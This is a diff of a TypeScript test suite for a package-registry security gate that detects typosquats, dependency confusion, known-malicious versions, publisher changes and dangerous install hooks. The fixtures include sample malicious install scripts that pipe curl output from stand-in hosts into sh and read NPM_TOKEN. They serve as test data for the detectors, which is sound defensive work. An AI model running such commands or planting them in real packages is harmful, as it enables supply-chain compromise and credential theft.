@@ -4,70 +4,168 @@ import { mkdtemp, rm } from 'node:fs/promises';
 import { join } from 'node:path';
 import { tmpdir } from 'node:os';
 import { newId } from '../../core/index.ts';
-import { openStorage } from '../../storage/index.ts';
+import { openStorage, type Storage } from '../../storage/index.ts';
 import type { FactCollector } from '../../gate/types.ts';
+import type { FirstSeenStore, Json } from '../../storage/ports/index.ts';
 import { createLookalikeIndex } from '../lookalike/index.ts';
 import { importOsvFeed } from '../feeds/index.ts';
-import { ageCollector, installBehaviourCollector, maliciousCollector, missingCollector, nameCollector, type FactsDoc } from './index.ts';
+import { createSignalCollectors, fixedLookalikeIndexes, type CollectorCandidate, type FactsDoc, type SignalCollector } from './index.ts';
 
 const FEED = join(import.meta.dirname, '..', 'feeds', 'testdata', 'osv');
-const subject = (name: string, version = '1.0.0', ecosystem: 'npm' | 'pypi' | 'oci' = 'npm') => ({ repo: 'npm', ecosystem, name, version, purl: `pkg:${ecosystem}/${name}@${version}` as never });
+const DAY = 86_400_000;
 
-test('collectors fit the gate port and produce the documented keys', async () => {
+function candidate(name: string, version: string, facts: FactsDoc = {}, ecosystem: 'npm' | 'pypi' | 'oci' = 'npm'): CollectorCandidate & { subject: { repo: string; purl: never } } {
+  return { subject: { repo: 'npm', ecosystem, name, version, purl: `pkg:${ecosystem}/${name}@${version}` as never }, facts };
+}
+
+type Got = Record<string, Record<string, Json>>;
+
+async function collectAll(collectors: readonly SignalCollector[], phase: 'metadata' | 'artifact', candidates: readonly CollectorCandidate[], now: Date, history = candidates): Promise<Got[]> {
+  const out: Got[] = candidates.map(() => ({}));
+  for (const c of collectors) {
+    const facts = await c.collect({ phase, candidates, history, request: null, now });
+    assert.equal(facts.length, candidates.length, c.id);
+    facts.forEach((f, i) => Object.assign(out[i] as Got, f));
+  }
+  return out;
+}
+
+async function withStorage(fn: (storage: Storage) => Promise<void>): Promise<void> {
   const dir = await mkdtemp(join(tmpdir(), 'airlock-collectors-'));
   const storage = await openStorage({ dataDir: join(dir, 'data') });
   try {
-    let now = new Date('2026-03-01T00:00:00Z');
-    const index = createLookalikeIndex([{ name: 'lodash', rank: 1 }, { name: '@ctrl/tinycolor', rank: 2 }], { rules: 'npm', internal: ['acme-billing'] });
-    const collectors: FactCollector[] = [
-      nameCollector({ indexes: { npm: index } }),
-      ageCollector({ firstSeen: storage.signals, clock: () => now }),
-      missingCollector({ ledger: storage.signals }),
-      maliciousCollector({ feeds: storage.signals }),
-      installBehaviourCollector(),
-    ];
-    await importOsvFeed(storage.signals, FEED, { source: 'ossf-malicious-packages', importedBy: 't', now, newId: () => newId() });
-    await storage.signals.recordMissing({ ecosystem: 'npm', name: 'lodahs', at: new Date('2026-02-01T00:00:00Z'), tokenId: 't1', userAgent: 'npm/11', agent: 'claude-code' });
-
-    const collectAll = async (s: ReturnType<typeof subject>, phase: 'metadata' | 'artifact', facts: FactsDoc): Promise<Record<string, unknown>> => {
-      const out: Record<string, unknown> = {};
-      for (const c of collectors) Object.assign(out, await c.collect(s, phase, facts, null));
-      return out;
-    };
-    const adapterFacts = {
-      published_at: '2026-02-27T00:00:00Z',
-      package_created_at: '2026-02-20T00:00:00Z',
-      install_scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' },
-      has_install_script: true,
-    };
-    const f = (await collectAll(subject('lodahs'), 'metadata', adapterFacts)) as Record<string, Record<string, unknown>>;
-    assert.deepEqual(Object.keys(f).sort(), ['age', 'install_behaviour', 'lookalike', 'malicious', 'name', 'requested_while_missing']);
-    assert.deepEqual([f.lookalike?.closest, f.lookalike?.kind], ['lodash', 'typo']);
-    assert.equal(f.name?.popular, false);
-    assert.deepEqual([f.age?.version_age_days, f.age?.package_age_days, f.age?.days_since_first_seen], [2, 9, 0]);
-    assert.deepEqual([f.requested_while_missing?.requested, f.requested_while_missing?.agents], [true, ['claude-code']]);
-    assert.equal(f.install_behaviour?.max_severity, 'critical');
-    assert.equal(f.malicious?.known, false);
-
-    now = new Date('2026-03-05T00:00:00Z');
-    const again = (await collectAll(subject('lodahs'), 'metadata', adapterFacts)) as Record<string, Record<string, unknown>>;
-    assert.equal(again.age?.days_since_first_seen, 4, 'first sighting is kept');
-
-    const tiny = (await collectAll(subject('@ctrl/tinycolor', '4.1.1'), 'metadata', {})) as Record<string, Record<string, unknown>>;
-    assert.deepEqual([tiny.malicious?.version_listed, tiny.name?.popular, tiny.lookalike?.closest], [true, true, null]);
-    const conf = (await collectAll(subject('acme-billing'), 'metadata', {})) as Record<string, Record<string, unknown>>;
-    assert.deepEqual([conf.lookalike?.kind, conf.lookalike?.dependency_confusion, conf.name?.internal], ['dependency-confusion', true, true]);
-
-    const artifact = (await collectAll(subject('native-thing'), 'artifact', {
-      install_scripts: {},
-      tarball: { install_scripts: { install: 'node-gyp rebuild' }, has_binding_gyp: true },
-    })) as Record<string, Record<string, unknown>>;
-    assert.deepEqual([artifact.install_behaviour?.present, artifact.install_behaviour?.native_build, artifact.install_behaviour?.max_severity], [true, true, 'none']);
-
-    const other = (await collectAll(subject('library/nginx', 'latest', 'oci'), 'metadata', {})) as Record<string, Record<string, unknown>>;
-    assert.deepEqual([other.lookalike?.closest, other.malicious?.known], [null, false]);
+    await fn(storage);
   } finally {
     await storage.close();
     await rm(dir, { recursive: true, force: true });
   }
+}
+
+const index = createLookalikeIndex([{ name: 'lodash', rank: 1 }, { name: '@ctrl/tinycolor', rank: 2 }, { name: 'chalk', rank: 3 }], { rules: 'npm', internal: ['acme-billing'] });
+
+test('collectors fit the gate port and produce the documented keys for a whole package at once', async () => {
+  await withStorage(async (storage) => {
+    const now = new Date('2026-03-01T00:00:00Z');
+    const signals = createSignalCollectors({ store: storage.signals, indexes: fixedLookalikeIndexes({ npm: index }) }, { factsTtlMs: 60_000 });
+    const asGatePort: readonly FactCollector[] = signals.collectors;
+    assert.equal(asGatePort.length, 6);
+    await storage.signals.recordMissing({ ecosystem: 'npm', name: 'lodahs', at: new Date('2026-02-01T00:00:00Z'), tokenId: 't1', userAgent: 'npm/11', agent: 'claude-code' });
+
+    const adapter = (published: string, extra: FactsDoc = {}): FactsDoc => ({ published_at: published, package_created_at: '2026-02-20T00:00:00Z', ...extra });
+    const versions = [
+      candidate('lodahs', '1.0.0', adapter('2026-02-20T00:00:00Z', { install_scripts: {}, has_install_script: false, publisher: 'a', maintainers: ['a'], provenance: true })),
+      candidate('lodahs', '1.0.1', adapter('2026-02-27T00:00:00Z', { install_scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' }, has_install_script: true, publisher: 'b', maintainers: ['a', 'b'], provenance: false })),
+    ];
+    const [v100, v101] = await collectAll(signals.collectors, 'metadata', versions, now);
+    assert.ok(v100 !== undefined && v101 !== undefined);
+    assert.deepEqual(Object.keys(v101).sort(), ['age', 'install_behaviour', 'lookalike', 'malicious', 'name', 'publisher_changes', 'requested_while_missing']);
+    assert.deepEqual([v101.lookalike?.closest, v101.lookalike?.kind], ['lodash', 'typo']);
+    assert.equal(v101.name?.popular, false);
+    assert.deepEqual([v101.age?.version_age_days, v101.age?.package_age_days, v101.age?.days_since_first_seen], [2, 9, 0]);
+    assert.deepEqual([v101.requested_while_missing?.requested, v101.requested_while_missing?.agents], [true, ['claude-code']]);
+    assert.equal((await storage.signals.getMissing('npm', 'lodahs'))?.appearedAt?.toISOString(), now.toISOString(), 'the ledger stamps the appearance');
+    assert.deepEqual([v100.install_behaviour?.max_severity, v101.install_behaviour?.max_severity], ['none', 'critical']);
+    assert.deepEqual(
+      [v101.publisher_changes?.publisher_new, v101.publisher_changes?.maintainers_added, v101.publisher_changes?.provenance_regression, v101.publisher_changes?.last_provenance_version],
+      [true, ['b'], true, '1.0.0'],
+    );
+    assert.equal(v101.malicious?.known, false);
+  });
+});
+
+test('first sightings: one store round trip per package, none when every version is known', async () => {
+  await withStorage(async (storage) => {
+    let calls = 0;
+    const counting: FirstSeenStore & typeof storage.signals = Object.create(storage.signals) as typeof storage.signals;
+    counting.markSeen = async (...args) => {
+      calls++;
+      return storage.signals.markSeen(...args);
+    };
+    const signals = createSignalCollectors({ store: counting, indexes: fixedLookalikeIndexes({ npm: index }) }, { factsTtlMs: 30 * DAY });
+    const many = Array.from({ length: 2000 }, (_, i) => candidate('big-pkg', `1.0.${i}`, { published_at: '2025-01-01T00:00:00Z' }));
+    let now = new Date('2026-03-01T00:00:00Z');
+    await collectAll(signals.collectors, 'metadata', many, now);
+    assert.equal(calls, 1, 'one upsert for 2,000 versions');
+    now = new Date('2026-03-05T00:00:00Z');
+    const again = await collectAll(signals.collectors, 'metadata', many, now);
+    assert.equal(calls, 1, 'nothing new: no store write');
+    assert.equal(again[0]?.age?.days_since_first_seen, 4, 'the first sighting is kept');
+    await collectAll(signals.collectors, 'metadata', [...many, candidate('big-pkg', '2.0.0')], now);
+    assert.equal(calls, 2);
+    const seen = await storage.signals.firstSeen('npm', 'big-pkg');
+    assert.equal(seen.versions.size, 2001);
+    assert.equal(seen.versions.get('2.0.0')?.toISOString(), now.toISOString());
+  });
+});
+
+test('malicious facts: exact versions, the history around them, and a feed change seen after feedChanged()', async () => {
+  await withStorage(async (storage) => {
+    const now = new Date('2026-03-01T00:00:00Z');
+    const signals = createSignalCollectors({ store: storage.signals, indexes: fixedLookalikeIndexes({ npm: index }) }, { factsTtlMs: 3_600_000 });
+    const tiny = ['4.0.0', '4.1.0', '4.1.1', '4.1.2', '4.1.3'].map((v, i) => candidate('@ctrl/tinycolor', v, { published_at: new Date(Date.parse('2025-09-01T00:00:00Z') + i * DAY).toISOString() }));
+    const before = await collectAll(signals.collectors, 'metadata', tiny, now);
+    assert.equal(before[2]?.malicious?.known, false);
+
+    await importOsvFeed(storage.signals, FEED, { source: 'ossf-malicious-packages', importedBy: 't', now, newId: () => newId() });
+    const stale = await collectAll(signals.collectors, 'metadata', tiny, now);
+    assert.equal(stale[2]?.malicious?.known, false, 'cached until the feed change is announced');
+    signals.feedChanged();
+    const got = await collectAll(signals.collectors, 'metadata', tiny, now);
+    const m = got.map((g) => g.malicious as Record<string, Json>);
+    assert.deepEqual(m.map((x) => x.version_listed), [false, false, true, true, false]);
+    assert.deepEqual(m.map((x) => x.all_versions), [true, true, true, true, true]);
+    assert.deepEqual(m[0]?.listed_versions, ['4.1.1', '4.1.2']);
+    assert.deepEqual(m.map((x) => x.predates_listed), [true, true, false, false, false]);
+    assert.deepEqual(m.map((x) => x.previous_version_listed), [false, false, false, false, true], '4.1.3 follows a listed release');
+    assert.equal(m[4]?.previous_version, '4.1.2');
+
+    // The registry removed the malicious releases: the fix still follows them (by version order).
+    const removed = [tiny[0], tiny[1], tiny[4]] as CollectorCandidate[];
+    const r = (await collectAll(signals.collectors, 'metadata', removed, now)).map((g) => g.malicious as Record<string, Json>);
+    assert.deepEqual(r.map((x) => x.previous_version_listed), [false, false, true]);
+    assert.deepEqual(r.map((x) => x.predates_listed), [true, true, false]);
+    assert.deepEqual(r[0]?.listed_versions, [], 'a range names no versions by itself');
+  });
+});
+
+test('artifact phase: the files install hooks run are read from the artifact and analysed', async () => {
+  await withStorage(async (storage) => {
+    const signals = createSignalCollectors({ store: storage.signals, indexes: fixedLookalikeIndexes({ npm: index }) }, { factsTtlMs: 60_000 });
+    const asked: string[][] = [];
+    const files = new Map([['scripts/setup.js', Buffer.from("require('child_process').execSync('curl -s http://203.0.113.9/x | sh')\nconst t = process.env.NPM_TOKEN\n")]]);
+    const c: CollectorCandidate = {
+      subject: { ecosystem: 'npm', name: 'innocent-helper', version: '1.0.0' },
+      facts: { install_scripts: {}, tarball: { install_scripts: { postinstall: 'node scripts/setup.js' }, has_binding_gyp: false } },
+      content: {
+        async readFiles(paths) {
+          asked.push([...paths]);
+          return new Map([...files].filter(([p]) => paths.includes(p)));
+        },
+      },
+    };
+    const [got] = await collectAll(signals.collectors, 'artifact', [c], new Date('2026-03-01T00:00:00Z'));
+    assert.deepEqual(asked, [['scripts/setup.js']]);
+    const b = got?.install_behaviour as Record<string, Json>;
+    assert.equal(b.max_severity, 'critical');
+    const sources = new Set((b.findings as Array<Record<string, Json>>).map((f) => f.source));
+    assert.ok(sources.has('scripts/setup.js'), JSON.stringify(b.findings));
+    assert.ok((b.categories as string[]).includes('credential-access'));
+
+    const native = candidate('native-thing', '1.0.0', { install_scripts: {}, tarball: { install_scripts: { install: 'node-gyp rebuild' }, has_binding_gyp: true } });
+    const [n] = await collectAll(signals.collectors, 'artifact', [native], new Date('2026-03-01T00:00:00Z'));
+    assert.deepEqual([n?.install_behaviour?.present, n?.install_behaviour?.native_build, n?.install_behaviour?.max_severity], [true, true, 'none']);
+  });
+});
+
+test('dependency confusion, popular names and other ecosystems', async () => {
+  await withStorage(async (storage) => {
+    const signals = createSignalCollectors({ store: storage.signals, indexes: fixedLookalikeIndexes({ npm: index }) }, { factsTtlMs: 60_000 });
+    const now = new Date('2026-03-01T00:00:00Z');
+    const [conf] = await collectAll(signals.collectors, 'metadata', [candidate('acme-billing', '1.0.0')], now);
+    assert.deepEqual([conf?.lookalike?.kind, conf?.lookalike?.dependency_confusion, conf?.name?.internal], ['dependency-confusion', true, true]);
+    const [chalk] = await collectAll(signals.collectors, 'metadata', [candidate('chalk', '5.6.0')], now);
+    assert.deepEqual([chalk?.name?.popular, chalk?.lookalike?.closest], [true, null]);
+    const [other] = await collectAll(signals.collectors, 'metadata', [candidate('library/nginx', 'latest', {}, 'oci')], now);
+    assert.deepEqual([other?.lookalike?.closest, other?.malicious?.known, other?.publisher_changes], [null, false, null]);
+  });
 });
